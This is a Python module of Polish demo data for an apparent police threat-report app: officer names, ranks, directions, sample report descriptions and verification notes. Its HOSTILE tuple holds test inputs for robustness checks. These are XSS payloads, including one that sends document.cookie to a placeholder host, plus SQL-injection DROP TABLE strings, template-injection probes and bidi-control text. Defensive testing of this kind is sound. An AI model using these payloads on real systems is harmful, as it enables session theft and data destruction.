"""The Polish texts of the demo data: officers' names and ranks, district directions, report
descriptions (with hostile input the store must keep as plain text) and verification notes."""

from __future__ import annotations

# fmt: off
MALE_FIRST = (
    "Adam", "Andrzej", "Bartłomiej", "Damian", "Dariusz", "Grzegorz", "Jakub", "Jan", "Jarosław",
    "Kamil", "Krzysztof", "Łukasz", "Maciej", "Marcin", "Marek", "Mariusz", "Mateusz", "Michał",
    "Paweł", "Piotr", "Przemysław", "Rafał", "Robert", "Sebastian", "Szymon", "Tomasz",
    "Wojciech", "Zbigniew", "Artur", "Krystian",
)
FEMALE_FIRST = (
    "Agnieszka", "Aleksandra", "Anna", "Beata", "Dorota", "Ewa", "Joanna", "Justyna",
    "Karolina", "Katarzyna", "Magdalena", "Małgorzata", "Marta", "Monika", "Natalia",
    "Patrycja", "Paulina", "Sylwia", "Weronika", "Żaneta",
)
SURNAMES = (
    "Nowak", "Kowalski", "Wiśniewski", "Wójcik", "Kowalczyk", "Kamiński", "Lewandowski",
    "Zieliński", "Szymański", "Woźniak", "Dąbrowski", "Kozłowski", "Jankowski", "Mazur",
    "Wojciechowski", "Kwiatkowski", "Krawczyk", "Kaczmarek", "Piotrowski", "Grabowski",
    "Zając", "Pawłowski", "Michalski", "Król", "Wieczorek", "Jabłoński", "Wróbel", "Nowakowski",
    "Majewski", "Olszewski", "Stępień", "Malinowski", "Jaworski", "Adamczyk", "Dudek",
    "Nowicki", "Pawlak", "Górski", "Witkowski", "Walczak", "Sikora", "Baran", "Rutkowski",
    "Michalak", "Szewczyk", "Ostrowski", "Tomaszewski", "Pietrzak", "Zalewski", "Wróblewski",
    "Marciniak", "Jasiński", "Zawadzki", "Bąk", "Jakubowski", "Sadowski", "Duda", "Włodarczyk",
    "Wilk", "Chmielewski", "Borkowski", "Sokołowski", "Szczepański", "Sawicki", "Lis", "Kubiak",
    "Maciejewski", "Kalinowski", "Mazurek", "Wysocki", "Kołodziej", "Kaźmierczak", "Czarnecki",
)
RANKS = ("sierż.", "st. sierż.", "mł. asp.", "asp.", "st. asp.", "podkom.")
RANK_P = (0.15, 0.25, 0.2, 0.2, 0.15, 0.05)

# fmt: on

# fmt: off
DIRECTIONS = ("Północ", "Północny Wschód", "Wschód", "Południowy Wschód", "Południe",
               "Południowy Zachód", "Zachód", "Północny Zachód")

DESCRIPTIONS: dict[str, tuple[str, ...]] = {
    "parkowanie": (
        "Samochody parkują na chodniku, piesi muszą schodzić na jezdnię.",
        "Auta stoją na przejściu dla pieszych i zasłaniają widoczność.",
        "Parkowanie na trawniku i na zakazie przy szkole.",
        "Samochody blokują wyjazd z osiedla i dojazd dla straży pożarnej.",
        "Ciągłe parkowanie na miejscach dla osób niepełnosprawnych bez karty.",
    ),
    "predkosc": (
        "Kierowcy jeżdżą tu znacznie szybciej niż 50 km/h, dzieci chodzą tędy do szkoły.",
        "Motocykle rozpędzają się na prostej, szczególnie wieczorem.",
        "Nagminne przekraczanie prędkości w terenie zabudowanym.",
        "Samochody ciężarowe pędzą przez wieś, drgają domy.",
        "Przy przejściu dla pieszych nikt nie zwalnia.",
    ),
    "alkohol": (
        "Grupa osób codziennie pije alkohol na ławkach przy placu zabaw.",
        "Spożywanie alkoholu pod sklepem, zaczepianie przechodniów.",
        "Libacje alkoholowe w altanie na skwerze, zostają butelki i szkło.",
        "Wieczorami picie alkoholu nad wodą i głośne zachowanie.",
        "Osoby pijące piwo na przystanku autobusowym.",
    ),
    "infrastruktura": (
        "Brak oświetlenia na przejściu dla pieszych.",
        "Dziury w jezdni, zniszczony znak ostrzegawczy.",
        "Zarośnięta skrajnia drogi, nie widać pieszych.",
    ),
    "rajdy": (
        "Nocne wyścigi samochodów na parkingu przy centrum handlowym.",
        "Drifting na rondzie, piski opon do późna.",
    ),
    "wandalizm": (
        "Zniszczone wiaty przystankowe i pomalowane elewacje.",
        "Ktoś regularnie niszczy ławki i kosze na śmieci w parku.",
    ),
    "wysypiska": (
        "Dzikie wysypisko śmieci przy ścieżce w lesie.",
        "Ktoś wyrzuca gruz i opony na poboczu.",
    ),
    "malolletni": (
        "Grupa nastolatków pali papierosy i zaczepia młodsze dzieci.",
        "Młodzież gromadzi się wieczorami za szkołą, słychać wulgaryzmy.",
    ),
    "narkotyki": (
        "Prawdopodobnie handel narkotykami przy garażach.",
        "Młodzi ludzie palą marihuanę na klatce schodowej.",
    ),
    "organizacja_ruchu": (
        "Źle ustawiona sygnalizacja, kierowcy skręcają na czerwonym.",
        "Brak przejścia dla pieszych przy przystanku.",
    ),
    "psy": ("Bezpańskie psy biegają przy szkole i gonią rowerzystów.",),
    "bezdomni": ("Osoba bezdomna śpi na przystanku, w nocy jest mróz.",),
    "zebractwo": ("Agresywne żebranie przy wejściu do marketu.",),
    "quady": ("Quady rozjeżdżają ścieżki leśne w weekendy.",),
    "wody": ("Niebezpieczny, stromy brzeg bez oznakowania.",),
    "kapieliska": ("Dzieci kąpią się w niestrzeżonym miejscu przy tamie.",),
    "zielen": ("Ktoś niszczy nowo posadzone drzewka.",),
    "wycinka": ("Wycinka drzew bez oznaczeń i bez zezwolenia.",),
    "klusownictwo": ("Wnyki rozstawione przy ścieżce w lesie.",),
    "znecanie_zwierzeta": ("Pies trzymany na krótkim łańcuchu bez wody i budy.",),
    "zwierzeta_lesne": ("Często przechodzą tędy sarny, brak znaku ostrzegawczego.",),
    "przejscie_tory": ("Ludzie przechodzą przez tory na skróty do stacji.",),
}
DESCRIPTION_DEFAULT = ("Proszę o sprawdzenie tego miejsca.",)
SUFFIXES = ("", " Proszę o interwencję.", " Dzieje się to codziennie.",
             " Najczęściej w weekendy.", " Zgłaszałem już wcześniej.", " Dziękuję.")
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "Parkują na chodniku <script>document.location='http://example.invalid/'+document.cookie</script>",
    "'; DROP TABLE reports; --",
    "Robert'); DROP TABLE zgloszenia;--",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    'Zażółć gęślą jaźń — "cudzysłów" & <b>pogrubienie</b> \\ ukośnik',
    "Linia pierwsza\nLinia druga\r\nLinia trzecia\ttabulator",
    "😡😡😡 ZNOWU TO SAMO!!! 🚗💨",
    "\u202eodwrócony tekst\u202c i zero\u200bwidth",
    ("Bardzo długi opis. " * 30)[:500],
)
HOSTILE_P = 0.004
DESCRIPTION_NONE_P = 0.3

NOTES: dict[str, tuple[str | None, ...]] = {
    "weryfikacja": (None, None, "Przekazano dzielnicowemu do sprawdzenia.",
                    "Zaplanowano sprawdzenie miejsca w trakcie służby."),
    "potwierdzone": (
        "Zagrożenie potwierdzone, miejsce ujęto w planie patroli.",
        "Potwierdzono podczas obchodu rejonu; prowadzone są działania.",
        "Zjawisko występuje, nałożono mandaty karne.",
    ),
    "niepotwierdzone": (
        "Podczas kilku kontroli nie stwierdzono zagrożenia.",
        "Sprawdzono o różnych porach dnia, bez potwierdzenia.",
    ),
    "zart_pomylka": ("Zgłoszenie nieprawdziwe.", "Pomyłka zgłaszającego co do miejsca."),
    "wyeliminowane": (
        "Zagrożenie wyeliminowane po wzmożonych kontrolach.",
        "Ustawiono słupki, problem ustąpił.",
    ),
    "przekazane": (
        "Sprawę przekazano zarządcy drogi.",
        "Przekazano do straży miejskiej zgodnie z właściwością.",
        "Przekazano do urzędu gminy.",
    ),
}
# fmt: on
